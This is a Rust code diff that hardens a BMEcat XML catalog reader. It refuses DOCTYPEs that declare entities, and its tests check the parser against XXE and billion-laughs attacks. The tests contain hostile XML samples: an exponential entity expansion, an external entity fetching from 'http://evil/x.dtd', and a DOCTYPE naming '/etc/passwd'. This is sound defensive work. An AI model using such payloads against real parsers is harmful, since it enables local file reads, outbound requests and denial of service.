@@ -4,7 +4,11 @@
 //! Real-world quirks handled, not rejected: any (or a non-standard) namespace, since
 //! elements are matched by local name; ISO 639-2 language codes (`deu`, `eng`), mapped to
 //! ISO 639-1; HTML entities escaped twice (`&amp;sup2;`), decoded to the character. DTDs
-//! are never loaded and custom entities never expanded.
+//! are never loaded (a `<!DOCTYPE BMECAT SYSTEM "bmecat_2005.dtd">` reference is fine) and
+//! a DOCTYPE that declares entities is refused as a whole: such a file is either an attack
+//! (external entities that would read local files or URLs, an exponential "billion
+//! laughs" expansion) or one whose text means something we would not expand, and reading
+//! it with its references left literal would store `&xxe;` as a product name.
 
 use super::{MAX_RECORD_BYTES, ReadError, Record, RecordSource};
 use bridge_domain::product::RawProduct;
@@ -353,6 +357,15 @@ impl BmecatSource {
     }
 }
 
+/// Whether a DOCTYPE's content (its internal subset) declares an entity, general or
+/// parameter (`<!ENTITY`, matched without regard to case).
+fn declares_entities(doctype: &[u8]) -> bool {
+    const DECLARATION: &[u8] = b"<!ENTITY";
+    doctype
+        .windows(DECLARATION.len())
+        .any(|w| w.eq_ignore_ascii_case(DECLARATION))
+}
+
 impl RecordSource for BmecatSource {
     fn next_record(&mut self) -> Option<Result<Record, ReadError>> {
         loop {
@@ -434,7 +447,17 @@ impl RecordSource for BmecatSource {
                     }
                 }
                 Event::Comment(c) => self.count_lines(c.as_ref()),
-                Event::DocType(d) => self.count_lines(d.as_ref()),
+                Event::DocType(d) => {
+                    if declares_entities(d.as_ref()) {
+                        self.done = true;
+                        return Some(Err(ReadError::File(format!(
+                            "the DOCTYPE at line {line_before} declares entities (<!ENTITY>); \
+                             entity declarations are refused (no external entities, no \
+                             entity expansion): export the catalog without an internal DTD subset"
+                        ))));
+                    }
+                    self.count_lines(d.as_ref());
+                }
                 Event::PI(p) => self.count_lines(p.as_ref()),
                 Event::Decl(d) => self.count_lines(d.as_ref()),
                 Event::Eof => {
@@ -544,13 +567,37 @@ mod tests {
     }
 
     #[test]
-    fn price_updates_are_refused_and_dtd_entities_are_not_expanded() {
+    fn price_updates_are_refused() {
         let records = read("<BMECAT><T_UPDATE_PRICES></T_UPDATE_PRICES></BMECAT>");
         assert!(matches!(&records[0], Err(ReadError::File(m)) if m.contains("T_UPDATE_PRICES")));
+    }
+
+    #[test]
+    fn entity_declarations_are_refused_before_any_record() {
         let laughs = r#"<?xml version="1.0"?><!DOCTYPE BMECAT [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
 <BMECAT><T_NEW_CATALOG><ARTICLE><SUPPLIER_AID>X</SUPPLIER_AID><ARTICLE_DETAILS><DESCRIPTION_SHORT>&b;</DESCRIPTION_SHORT></ARTICLE_DETAILS></ARTICLE></T_NEW_CATALOG></BMECAT>"#;
-        let records = read(laughs);
-        let record = records[0].as_ref().unwrap();
-        assert_eq!(record.raw.names[0].1, "&b;");
+        let external = "<?xml version=\"1.0\"?>\n<!DOCTYPE BMECAT [\n  <!entity % p SYSTEM \"http://evil/x.dtd\"> %p;\n]>\n<BMECAT/>";
+        for (xml, line) in [(laughs, 1), (external, 2)] {
+            let records = read(xml);
+            assert_eq!(records.len(), 1, "{xml}");
+            assert!(
+                matches!(&records[0], Err(ReadError::File(m))
+                    if m.contains(&format!("DOCTYPE at line {line} declares entities"))),
+                "{:?}",
+                records[0]
+            );
+        }
+    }
+
+    #[test]
+    fn a_doctype_that_only_names_its_dtd_is_read_without_loading_it() {
+        let xml = CATALOG_2005.replacen(
+            "<BMECAT ",
+            "<!DOCTYPE BMECAT SYSTEM \"file:///etc/passwd\">\n<BMECAT ",
+            1,
+        );
+        let records = read(&xml);
+        assert_eq!(records.len(), 2);
+        assert_eq!(records[0].as_ref().unwrap().line, 6);
     }
 }
